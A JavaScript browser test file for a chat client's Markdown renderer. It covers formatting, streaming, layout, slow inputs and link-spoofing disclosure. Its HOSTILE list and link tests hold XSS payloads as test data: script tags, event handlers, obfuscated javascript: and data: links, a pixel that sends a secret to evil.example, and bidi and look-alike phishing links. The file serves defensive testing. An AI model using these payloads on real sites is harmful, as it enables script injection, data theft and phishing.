// SPDX-License-Identifier: BSD-2-Clause
// What answers look like, and that nothing in them is more than text.
import {describe, test} from "node:test";
import assert from "node:assert/strict";
import {answers, say, screenshot, served} from "./browser.mjs";
import {SLOW, uuid} from "./harness.mjs";

const TRIP = `# Sydney to Brisbane

Two days along the **coast**, about *920 km*. ~~Inland~~ is shorter.

1. Sydney
2. Port Macquarie
   - stay at the \`harbour\`
   - fuel
3. Brisbane

| Day | From | km |
|:----|:----:|---:|
| 1 | Sydney | 380 |
| 2 | Port Macquarie | 540 |

> Check the weather first.

\`\`\`sh
ls -l "a
  b"
\`\`\`

See [the map](https://maps.example.org/route), https://example.com/a_b_c?x=1&y=2, www.qld.gov.au or write to pam@example.org.
Files like trip.md and main.py are no addresses.

---

<b>raw</b> &amp; done`;

// Each of them tries to run something, to load something, or to look like something else.
const HOSTILE = {
  script: "<script>window.hurt = 1</script>",
  "event handler": "<img src=x onerror=\"window.hurt=1\"> <svg onload=window.hurt=1> <body onload=hurt()>",
  "html block": "<div>\n<style>body{display:none}</style>\n<iframe src=\"https://evil.example/\"></iframe>\n<form action=https://evil.example><input></form>\n</div>",
  "javascript links": "[a](javascript:window.hurt=1) [b](JaVaScRiPt:hurt()) [c](java\nscript:hurt()) [d](&#106;avascript:hurt()) [e](\\javascript:x) [f](\u0001javascript:x) <javascript:hurt()> [g](vbscript:x) [h][ref]\n\n[ref]: javascript:window.hurt=1",
  "data links": "[a](data:text/html,<script>hurt()</script>) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](data:image/svg+xml,<svg onload=hurt()>) [d](blob:x) [e](file:///etc/passwd) [f](about:blank) [g](intent://x)",
  pictures: "![pixel](https://evil.example/pixel.png?secret=1) ![](http://evil.example/x) [![in a link](https://evil.example/y.png)](https://evil.example/z) ![own](/icon.svg)",
  "attributes": "[x](https://example.org \"a\\\" onclick=\\\"window.hurt=1\") ![x\" onerror=\"window.hurt=1](https://evil.example/x) `` `\" onclick=hurt() ``\n\n```\" onmouseover=\"window.hurt=1\nx\n```",
  "nested deep": `${">".repeat(3000)} a\n\n${"- ".repeat(3000)}b\n\n${"*".repeat(5000)}c`,
  "a token for us": "[sign in](#token=evil) [sign in](/#token=evil)",
  bidi: "The file is invoice\u202Egnp.exe and \u2066[isolated\u2069](https://example.org/\u202Efdp)",
  "unclosed everything": "**a _b `c [d](e ![f <g ~~h |\n|-\n```\n",
  "entities": "&lt;script&gt;hurt()&lt;/script&gt; &#60;img src=x onerror=hurt()&#62; &NotAnEntity; &#0; &#xD800;",
  "prototype": "[a][__proto__] [b][constructor] [c][toString]\n\n[__proto__]: https://example.org/p\n\n```__proto__\nx\n```",
  "odd schemes": "<ftp://evil.example/x> <tel:1> <sms:1> <data:text/html,x> <//evil.example> <ms-settings:x> <x-y.z+1:hurt()> [a](  javascript:hurt()) [b](javascript&colon;hurt()) [c](&Tab;javascript:hurt()) [d](java&NewLine;script:hurt()) [e](%6aavascript:hurt()) [f](view-source:https://evil.example)",
  "nested links": "[a [b](https://evil.example/1) c](https://example.org/2) [![p](https://evil.example/3)](javascript:hurt()) [<https://evil.example/4>](https://example.org/5) [x][y [z](https://evil.example/6)]\n\n[y]: https://example.org/7",
  "comments": "<!-- a --> <!--><script>hurt()</script>--> <![CDATA[<img src=x onerror=hurt()>]]> <?php hurt() ?> <!DOCTYPE x> --> ]]>",
  "references": `${"[a]: javascript:hurt() \"t\"\n".repeat(50)}\n[a] [A] [ a ] [b][a] ![c][a]\n\n[\u202Ea]: https://evil.example/\n\n[\u202Ea]`,
  "turned code": "`safe\u202Eexe.fdp` and\n\n```js\u202Etxt\nif (ok\u2066 /* \u2069) */ hurt()\n```",
  "controls": "a\u0000b\u0007c\u001b[31m\uFEFFd\uFFFE",
};
const SLOW_TEXTS = {
  "a table of 1 MB": "| a | b |\n|---|---|\n" + "| cell one | cell **two** |\n".repeat(38000),
  "a table of 200 kB": "| a | b |\n|---|---|\n" + "| cell one | cell **two** |\n".repeat(7500),
  "half-open emphasis": "*a **a ".repeat(12000),
  "half-open links": "[a](".repeat(20000),
  "half-open brackets": "![[".repeat(20000),
  "one word": "a".repeat(80000) + "@",
  "backticks": Array.from({length: 350}, (_, i) => "`".repeat(i) + "a").join(""),
  "deep lists": Array.from({length: 400}, (_, i) => " ".repeat(i) + "- a").join("\n"),
  "a thousand columns": `|${"a|".repeat(1000)}\n|${"-|".repeat(1000)}\n${`|${"b|".repeat(1000)}\n`.repeat(100)}`,
  "cells that are not there": `|${"a|".repeat(1000)}\n|${"-|".repeat(1000)}\n${"|b\n".repeat(60000)}`,
  "nested quotes": Array.from({length: 300}, (_, i) => `${"> ".repeat(i)}a`).join("\n\n"),
  "names with dots": `[${"a.".repeat(60000)}](https://example.org/)`,
  "names with at signs": `[${"a@".repeat(60000)}!](https://example.org/) [${"a".repeat(100000)}](https://example.org/)`,
  "digits": `[${"1 ".repeat(60000)}x](tel:+1)`,
  "references by the thousand": Array.from({length: 6000}, (_, i) => `[r${i}]: https://example.org/${i}`).join("\n") + `\n\n${"[r1] ".repeat(2000)}`,
  "entities": "&amp;&#x202E;&nbsp;".repeat(10000),
  "a long line": "The road north follows the coast. ".repeat(7000),
};

describe("answers on the page", () => {
  const site = served();

  /** A page that keeps what is asked for, what is said in its console, and what runs. */
  async function open(t, options = {}) {
    const context = await site.browser.newContext({viewport: {width: 900, height: 900}, ...options});
    t.after(() => context.close());
    const page = await context.newPage();
    page.outside = [];
    page.said = [];
    page.on("request", r => r.url().startsWith(site.stack.url) || page.outside.push(r.url()));
    page.on("console", m => m.type() === "error" && !/404/.test(m.text()) && page.said.push(m.text()));
    page.on("dialog", d => { page.said.push("a dialog"); d.dismiss(); });
    await page.goto(`${site.stack.url}/#${uuid()}`);
    await page.locator("#state[data-state=live]").waitFor();
    return page;
  }
  async function answer(page, text) {
    const name = uuid(), n = await answers(page).count();
    site.stack.double.texts.set(name, text);
    await say(page, `go on [[text named=${name}]]`);
    const body = answers(page).nth(n);
    await body.waitFor();
    return body;
  }

  test("shows Markdown as what it means", async t => {
    const page = await open(t), body = await answer(page, TRIP);
    const count = selector => body.locator(selector).count();
    assert.equal(await body.locator("h3").textContent(), "Sydney to Brisbane");
    assert.deepEqual([await count("strong"), await count("em"), await count("s"), await count("ol > li"), await count("ol > li > ul > li")], [1, 1, 1, 3, 2]);
    assert.deepEqual(await body.locator("tr").evaluateAll(rows => rows.map(r => [...r.children].map(c => c.textContent))),
      [["Day", "From", "km"], ["1", "Sydney", "380"], ["2", "Port Macquarie", "540"]]);
    assert.equal(await body.locator("td").nth(2).evaluate(e => getComputedStyle(e).textAlign), "end");
    assert.equal(await body.locator("pre").textContent(), "ls -l \"a\n  b\"");
    assert.deepEqual([await count("blockquote"), await count("hr"), await count("b")], [1, 1, 0]);
    assert.match(await body.textContent(), /<b>raw<\/b> & done/);
    const links = await body.locator("a").evaluateAll(all => all.map(a => [a.href, a.target, a.rel]));
    assert.deepEqual(links.map(l => l[0]), ["https://maps.example.org/route", "https://example.com/a_b_c?x=1&y=2", "http://www.qld.gov.au/", "mailto:pam@example.org"]);
    for (const [href, target, rel] of links) assert.deepEqual([target, rel], ["_blank", "noopener noreferrer"], href);
    await screenshot(page, "markdown");
    await page.reload();
    await answers(page).locator("table").waitFor();
    assert.equal(await answers(page).innerHTML(), await page.evaluate(() => document.querySelector("turnpike-chat").shadowRoot.querySelector(".assistant .text").innerHTML));
  });

  test("is readable on a small dark screen", async t => {
    const page = await open(t, {viewport: {width: 360, height: 640}, colorScheme: "dark"});
    await answer(page, `${TRIP}\n\n| ${"a wide column | ".repeat(9)}\n|${"---|".repeat(9)}\n| ${"x | ".repeat(9)}`);
    assert.ok(await page.evaluate(() => document.querySelector("turnpike-chat").shadowRoot.querySelector("#scroll").scrollWidth <= innerWidth));
    const table = answers(page).locator(".wide").last();
    assert.ok(await table.evaluate(e => e.scrollWidth > e.clientWidth && e.tabIndex === 0), "the table scrolls by itself, also by keys");
    await screenshot(page, "markdown-small");
  });

  test("what is drawn piece by piece is what is drawn at once", async t => {
    const page = await open(t);
    const differing = await page.evaluate(async texts => {
      const {Answer, loadMarkdown} = await import("./client/chat/markdown.js");
      await loadMarkdown();
      const frame = () => new Promise(go => requestAnimationFrame(go)), out = [];
      for (const text of texts) {
        const whole = document.createElement("div"), grown = document.createElement("div");
        new Answer(whole, fn => fn()).set(text);
        const answer = new Answer(grown, fn => fn());
        answer.set("");
        for (let i = 0; i < text.length; i += 7) {
          answer.add(text.slice(i, i + 7));
          await frame();
        }
        answer.end();
        if (whole.innerHTML !== grown.innerHTML || !whole.innerHTML) out.push([text, whole.innerHTML, grown.innerHTML]);
      }
      return out;
    }, [TRIP, "- a\n- b\n\n- c\n\nend", "a [b][c] d\n\n[c]: https://example.org/c", "Title\n===\n\ntext\n\n    code\n\n1. x\n\n   y\n2. z\n\n3) other", "one\ntwo\n\n```\nopen", "| a |\n|---|\n| 1 |\nafter\n\n* * *"]);
    assert.deepEqual(differing, []);
  });

  test("settled blocks are not drawn again while the answer goes on", async t => {
    const page = await open(t);
    const same = await page.evaluate(async () => {
      const {Answer, loadMarkdown} = await import("./client/chat/markdown.js");
      await loadMarkdown();
      const frame = () => new Promise(go => requestAnimationFrame(() => setTimeout(go)));
      const body = document.createElement("div"), answer = new Answer(body, fn => fn());
      answer.set("# Title\n\nfirst\n\nsecond\n");
      answer.add("\nthird\n");
      await frame();
      const [title, first] = body.children;
      answer.add("\nfourth");
      while (!body.textContent.includes("fourth")) await frame();
      return title === body.children[0] && first === body.children[1] && body.children.length === 5;
    });
    assert.ok(same);
  });

  test("nothing hostile runs, loads or leads astray", async t => {
    const page = await open(t);
    for (const [name, text] of Object.entries(HOSTILE)) {
      const body = await answer(page, text);
      const found = await body.evaluate(e => [
        ...[...e.querySelectorAll("*")].filter(x => !/^(H[1-6]|P|UL|OL|LI|BLOCKQUOTE|DIV|TABLE|THEAD|TBODY|TR|TH|TD|STRONG|EM|S|A|SPAN|PRE|CODE|BUTTON|BR|HR)$/.test(x.tagName)).map(x => x.outerHTML),
        ...[...e.querySelectorAll("*")].flatMap(x => [...x.attributes]).filter(a => /^(on|style|src)/.test(a.name)).map(a => a.name),
        ...[...e.querySelectorAll("a")].filter(a => !/^(https?:|mailto:|tel:)/.test(a.href) || a.rel !== "noopener noreferrer" || a.href.includes("token=")).map(a => a.href),
      ]);
      assert.deepEqual(found, [], name);
    }
    assert.equal(await page.evaluate(() => window.hurt), undefined);
    assert.deepEqual(page.outside, []);
    assert.deepEqual(page.said, [], "not even refused by the policy");
    const bidi = answers(page).filter({hasText: "The file is"});
    assert.match(await bidi.textContent(), /invoice\\u202egnp\.exe and \\u2066isolated\\u2069/);
    await page.reload();
    await bidi.waitFor();
    assert.equal(await page.evaluate(() => window.hurt), undefined);
    assert.deepEqual(page.outside, []);
  });

  test("an address that is shown is the one that it leads to", async t => {
    const page = await open(t);
    const body = await answer(page, "[https://bank.example.com](https://evil.example/login) [www.example.org](https://example.org/) [bank](https://evil.example)");
    assert.equal(await body.textContent(), "https://bank.example.com (evil.example) www.example.org bank");
    const said = { // link, and what is said of it
      "[paypal.com](https://evil.example/)": "paypal.com (evil.example)",
      "[PayPal, paypal.com/login](https://evil.example/)": "PayPal, paypal.com/login (evil.example)",
      "[\u200Bhttps://bank.example.com](https://evil.example/)": "\u200Bhttps://bank.example.com (evil.example)",
      "[ｂａｎｋ．ｃｏｍ](https://evil.example/)": "ｂａｎｋ．ｃｏｍ (evil.example)",
      "[`bank.com` **now**](https://evil.example/)": "bank.com now (evil.example)",
      "<https://paypal.com@evil.example/x>": "https://paypal.com@evil.example/x (evil.example)",
      "https://\u0430pple.com/": "https://\u0430pple.com/ (xn--pple-43d.com)",
      "![bank.com](https://evil.example/p.png)": "🖼 bank.com (evil.example)",
      "[help@bank.com](mailto:thief@evil.example)": "help@bank.com (thief@evil.example)",
      "[+61 2 1234 5678](tel:+6190000000)": "+61 2 1234 5678 (+6190000000)",
      "[10.0.0.1](https://evil.example/)": "10.0.0.1 (evil.example)",
      "[help@bank.com](mailto:%E0%A4%A)": "help@bank.com (%e0%a4%25a)",
      "https://example.org/a.html?next=b.com#c.de and www.example.org/x.php": "https://example.org/a.html?next=b.com#c.de and www.example.org/x.php",
      "[Example.org](https://www.example.org/)": "Example.org",
      "[pam@example.org](mailto:pam@example.org) [+61 2 1234](tel:+6121234)": "pam@example.org +61 2 1234",
      "[version 1.2.3, e.g. v2.0](https://example.org/)": "version 1.2.3, e.g. v2.0",
    };
    for (const [text, shown] of Object.entries(said)) assert.equal(await (await answer(page, text)).textContent(), shown, text);
  });

  test("no text holds the page up", {timeout: 120000 * SLOW}, async t => {
    const page = await open(t);
    for (const [name, text] of Object.entries(SLOW_TEXTS)) {
      const [shown, took] = await page.evaluate(async long => {
        const {Answer, loadMarkdown} = await import("./client/chat/markdown.js");
        await loadMarkdown();
        const body = document.createElement("div"), began = performance.now();
        new Answer(body, fn => fn()).set(long);
        return [body.textContent.length, performance.now() - began];
      }, text);
      t.diagnostic(`${name}: ${Math.round(took)} ms`);
      assert.ok(shown > 0, name);
    }
    await answer(page, "still here");
  });

  test("the user's own words are shown as they were written", async t => {
    const page = await open(t), words = "# not a title **bold** <i>x</i> [a](https://example.org)\n- one\u202E";
    await say(page, words);
    const shown = page.locator(".user .text").first();
    assert.equal(await shown.textContent(), words.replace("\u202E", "\\u202e"));
    assert.equal(await shown.locator("*").count(), 0);
  });

  test("text from right to left is laid out so", async t => {
    const page = await open(t), body = await answer(page, "مرحبا **بك** في سيدني\n\n- واحد\n- اثنان\n\nand English");
    const directions = await body.locator("> *").evaluateAll(all => all.map(e => getComputedStyle(e).direction));
    assert.deepEqual(directions, ["rtl", "rtl", "ltr"]);
    await say(page, "שלום");
    assert.equal(await page.locator(".user .text").last().evaluate(e => getComputedStyle(e).direction), "rtl");
  });

  test("without the library answers are plain text", async t => {
    const context = await site.browser.newContext();
    t.after(() => context.close());
    await context.route("**/markdown-it*.js", route => route.fulfill({contentType: "text/javascript", body: "export default null;"}));
    const page = await context.newPage();
    await page.goto(`${site.stack.url}/#${uuid()}`);
    await page.locator("#state[data-state=live]").waitFor();
    const body = await answer(page, TRIP);
    assert.equal(await body.textContent(), TRIP);
    assert.equal(await body.locator("*").count(), 0);
  });

  test("answers that are there before the library become Markdown when it comes", async t => {
    const page = await open(t, {serviceWorkers: "block"}); // it would have the file already
    await answer(page, TRIP);
    let go;
    const held = new Promise(done => { go = done; });
    await page.route("**/markdown-it*.js", async route => {
      await held;
      await route.continue();
    });
    await page.reload();
    await answers(page).filter({hasText: "# Sydney to Brisbane"}).waitFor();
    assert.equal(await answers(page).locator("table").count(), 0);
    go();
    await answers(page).locator("table").waitFor();
  });

  test("a tool that fails says so in a few plain words, not in those meant for the model", async t => {
    const page = await open(t);
    await say(page, "x [[tool name=no_such_tool | tool name=delete_calendar_event args={\"nonsense\":1} | text say=Sorry.]]");
    await answers(page).filter({hasText: "Sorry."}).waitFor();
    const statuses = await page.locator(".tool.failed .status").allTextContents();
    assert.equal(statuses.length, 2);
    for (const status of statuses) assert.match(status, /^[A-Z][a-z ]{5,50}\.$/);
    await page.locator(".tool.failed summary").first().click();
    assert.doesNotMatch(await page.locator("#log").innerText(), /search_tools|no tool|unknown_tool|invalid_argument/i);
  });

  test("the first load is small, and the library comes behind it", async t => {
    const context = await site.browser.newContext();
    t.after(() => context.close());
    const page = await context.newPage();
    let first = 0, library = 0;
    const sizes = [];
    page.on("requestfinished", request => request.url().startsWith(site.stack.url) && !request.url().includes("/api/") && sizes.push((async () => {
      const {responseBodySize} = await request.sizes(); // as it comes over the line
      if (request.url().includes("/markdown-it")) library = responseBodySize;
      else first += responseBodySize;
    })()));
    await page.goto(site.stack.url);
    await page.locator("#state[data-state=live]").waitFor();
    await page.waitForFunction(() => performance.getEntriesByType("resource").some(e => e.name.includes("/markdown-it") && e.responseEnd));
    await Promise.all(sizes);
    t.diagnostic(`first load ${first} bytes, library ${library} bytes`);
    assert.ok(first > 10000 && library > 10000 && first + library < 120 * 1024, `${first} and ${library} bytes`);
  });
});
